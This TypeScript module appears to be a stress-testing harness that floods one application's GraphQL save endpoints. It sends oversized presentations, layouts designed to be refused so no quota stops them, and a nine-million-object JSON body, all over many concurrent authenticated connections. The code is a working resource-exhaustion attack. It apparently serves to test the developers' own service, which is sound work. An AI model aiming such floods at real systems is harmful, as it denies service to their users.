import { randomUUID } from 'node:crypto'
import { AttackCounts, type AttackReport, type AttackTarget } from './attack.ts'

interface LargeDocuments {
  /** Each saves again as soon as it has an answer. */
  readonly connections: number
  readonly forMs: number
}

const SAVE_DECK = 'mutation ($input: SavePresentationInput!) { savePresentation(input: $input) { id version } }'
const [SLIDES, ELEMENTS, CHARACTERS] = [25, 40, 1_700]
const SAVE_LAYOUT = 'mutation ($input: CreateSpreadsheetMetadataInput!) { createSpreadsheetMetadata(input: $input) { id } }'
/** Formatted cells of a layout that is just small enough to be read where everybody's requests are answered. */
const CELLS = 8_000

/** Saves presentations of two megabytes, one for each connection, a little changed each time. */
export async function saveLargePresentations(target: AttackTarget, { connections, forMs }: LargeDocuments): Promise<AttackReport> {
  const frame = { transform: { x: 0, y: 0, width: 10, height: 10, rotation: 0 }, zIndex: 0, locked: false, visible: true }
  const element = () => ({ ...frame, id: randomUUID(), type: 'TEXT', content: 'x'.repeat(CHARACTERS), fontSize: 12, color: '#000000' })
  const slides = Array.from({ length: SLIDES }, () => ({
    id: randomUUID(),
    title: 'A slide',
    backgroundColor: '#ffffff',
    elements: Array.from({ length: ELEMENTS }, element),
  }))
  const given = { order: slides.map(({ id }) => id), slides, settings: { aspectRatio: 'LETTER' } }
  return repeated(target, { connections, forMs }, async (send) => {
    let stored: { readonly id: string; readonly version: number } | null = null
    return async (n) => {
      const input = { ...given, ...stored, title: `Large ${n}` }
      const answer = await send(JSON.stringify({ query: SAVE_DECK, variables: { input } }))
      stored = (answer as { data?: { savePresentation?: typeof stored } }).data?.savePresentation ?? stored
    }
  })
}

/** Saves layouts that are read without a thread of their own; all are refused at their end, so that no quota ends the attack. */
export async function saveManyCells(target: AttackTarget, { connections, forMs }: LargeDocuments): Promise<AttackReport> {
  const cells = Array.from({ length: CELLS }, (_, at) => ({ key: `account:${at}|period:2025-01-01`, formatting: { bold: true } }))
  const body = layoutOf(target, JSON.stringify({ baseLayer: { formatting: { cells } }, frozenColumns: -1 }))
  return repeated(target, { connections, forMs }, async (send) => async () => void (await send(body)))
}

/** Saves layouts that are as large as any may be, and made of nothing but empty objects. */
export async function saveEmptyObjects(target: AttackTarget, { connections, forMs }: LargeDocuments): Promise<AttackReport> {
  const body = layoutOf(target, `{"a":[${'{},'.repeat(9_000_000)}{}]}`)
  return repeated(target, { connections, forMs }, async (send) => async () => void (await send(body)))
}

function layoutOf({ mappingId }: AttackTarget, document: string): string {
  const timeSpan = { period: 'MONTHLY', startDate: '2025-01-01', endDate: '2025-06-30' }
  const input = { profitLossMappingId: mappingId, name: 'Cells', timeSpan, locationIds: [], document }
  return JSON.stringify({ query: SAVE_LAYOUT, variables: { input } })
}

async function repeated(
  { origin, token }: AttackTarget,
  { connections, forMs }: LargeDocuments,
  start: (send: (body: string) => Promise<unknown>) => Promise<(n: number) => Promise<void>>,
): Promise<AttackReport> {
  const counts = new AttackCounts()
  const until = performance.now() + forMs
  const send = async (body: string): Promise<unknown> => {
    counts.sent += 1
    try {
      const response = await fetch(`${origin}/api/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token ?? ''}` },
        body,
      })
      counts.answered(response.status)
      return await response.json()
    } catch {
      counts.hungUp += 1
      return {}
    }
  }
  const attack = async (): Promise<void> => {
    const act = await start(send)
    while (performance.now() < until) await act(counts.sent)
  }
  await Promise.all(Array.from({ length: connections }, attack))
  return counts.report()
}
